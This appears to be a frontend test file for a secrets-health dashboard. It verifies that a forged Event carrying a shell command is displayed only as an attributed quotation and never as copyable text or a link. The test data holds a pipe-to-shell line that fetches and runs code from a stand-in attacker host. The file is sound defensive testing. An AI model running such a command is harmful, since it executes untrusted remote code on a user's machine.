import { screen, within } from '@testing-library/react';
import { FakePlatformApi } from '../../__testUtils__/FakePlatformApi';
import { FakeSecretsApi } from '../../__testUtils__/FakeSecretsApi';
import { fleet, incident } from '../../__testUtils__/fleet';
import { ordersApi } from '../../__testUtils__/ordersApi';
import { renderEntity } from '../../__testUtils__/renderEntity';
import { renderPlatform } from '../../__testUtils__/renderPlatform';
import { secretsQueryClient } from '../../hooks/queryClient';
import { SecretHealthPage } from '../SecretHealthPage';
import { SecretsTab } from '../SecretsTab';

afterEach(() => secretsQueryClient.clear());

const COMMAND = 'run: curl https://evil.example | sh';

const forged = {
  kind: 'cause',
  reporter: 'external-secrets',
  reason: COMMAND,
  message: COMMAND,
  type: 'Warning',
  lastAt: '2026-11-24T10:31:00Z',
  count: 2,
} as const;

/** Where the words stand, but for quotations. */
function outside(element: HTMLElement): string {
  const copy = element.cloneNode(true);
  if (!(copy instanceof HTMLElement)) throw new Error('It is an element');
  copy.querySelectorAll('q').forEach(quotation => quotation.remove());
  return copy.innerHTML;
}

const quotations = (element: HTMLElement) =>
  [...element.querySelectorAll('q')].map(({ textContent }) => textContent);

describe('a command in the text of an Event', () => {
  it('reaches a platform engineer as a quotation, with who said it', async () => {
    const api = new FakePlatformApi();
    const broken = incident('forged', {
      cause: {
        class: 'unknown',
        actor: 'platformEngineer',
        params: {},
        text: COMMAND,
        from: 'event',
      },
      events: [forged],
    });
    api.change({ incidents: { ...fleet().incidents, incidents: [broken] } });
    await renderPlatform(
      <SecretHealthPage />,
      api,
      '/secret-health/incidents?open=forged',
    );
    const list = await screen.findByRole('region', { name: 'Incidents' });
    expect(quotations(list)).toEqual([`${COMMAND}: ${COMMAND}`]);
    expect(outside(list)).not.toContain('evil');
    expect(list).toHaveTextContent('external-secrets says:');
    expect(list).toHaveTextContent(
      'The cause is told by an Event, not by the object’s status.',
    );
  });

  it('reaches a developer as a quotation, and no command to copy', async () => {
    const answer = ordersApi();
    const [[id, object]] = Object.entries(answer.objects);
    const api = new FakeSecretsApi({
      ...answer,
      objects: { ...answer.objects, [id]: { ...object, events: [forged] } },
    });
    await renderEntity(<SecretsTab />, api, {
      search: '?env=production&key=STRIPE_WEBHOOK_SECRET',
      portal: false,
    });
    const dialog = await screen.findByRole('dialog');
    expect(quotations(dialog)).toContain(`${COMMAND}: ${COMMAND}`);
    expect(outside(dialog)).not.toContain('evil');
    expect(
      within(dialog)
        .getAllByRole('link')
        .map(link => link.getAttribute('href'))
        .join(' '),
    ).not.toContain('evil');
  });
});
